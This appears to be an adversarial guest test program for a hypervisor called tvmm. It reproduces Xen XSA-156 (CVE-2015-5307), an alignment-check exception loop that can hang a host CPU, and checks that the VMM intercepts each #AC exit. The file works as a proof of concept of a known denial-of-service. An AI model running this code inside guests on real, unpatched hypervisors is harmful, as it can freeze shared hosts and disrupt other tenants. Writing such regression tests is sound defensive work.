/*
 * adv_ac_loop.S - an #AC that never ends (Xen XSA-156, CVE-2015-5307).
 *
 * Concept: exceptions the CPU delivers to the guest without a VM exit
 * can keep a CPU busy forever. Here the guest turns on alignment checking
 * (CR0.AM, EFLAGS.AC), drops to ring 3 on a misaligned stack and makes a
 * misaligned load. Its #AC gate leads to a ring-3 handler on the same
 * stack, so delivering the #AC raises #AC again (and the handler, if it
 * ever runs, makes the same misaligned load): without tvmm in the loop
 * the CPU would deliver #AC after #AC and never reach an instruction
 * boundary where the preemption timer or a host interrupt could stop it.
 * With #AC in the exception bitmap every #AC is a VM exit that tvmm
 * reflects, so --max-exits, a signal or Linux's scheduler end the loop.
 * SDM vol. 3A, 6.15 "Exception 17 - Alignment Check"; vol. 3C, 25.6.3
 * "Exception Bitmap".
 *
 * Expected trace: one CR_ACCESS (CR0.AM), then EXCEPTION_NMI exits with
 * vector 17, "reflected", until the run is stopped. Never ends by itself.
 */
	.include "guest.inc"
	.include "adversarial.inc"

	.code32
	.text
	.globl _start
_start:
	ADV_LOAD_GDT
	ADV_SET_GATE X86_AC, ac_handler, SEL_CODE3
	lidt	adv_idt_desc
	mov	%cr0, %eax
	or	$CR0_AM, %eax
	mov	%eax, %cr0		/* exit: CR_ACCESS */

	/* IRET to ring 3: SS, ESP (odd), EFLAGS with AC, CS, EIP. */
	push	$SEL_DATA3
	push	$stack_top - 1
	push	$(EFLAGS_AC | EFLAGS_FIXED)
	push	$SEL_CODE3
	push	$ring3
	iret

ring3:
	mov	$SEL_DATA3, %ax
	mov	%ax, %ds
	mov	%ax, %es
ac_handler:
	mov	misaligned, %eax	/* #AC */
	jmp	ac_handler

	.balign 4
	.long 0
	.equ misaligned, . - 3		/* 1 byte into the word above */
	.balign 16
	.fill 4096, 1, 0		/* the ring-3 stack */
stack_top:
	ADV_TABLES
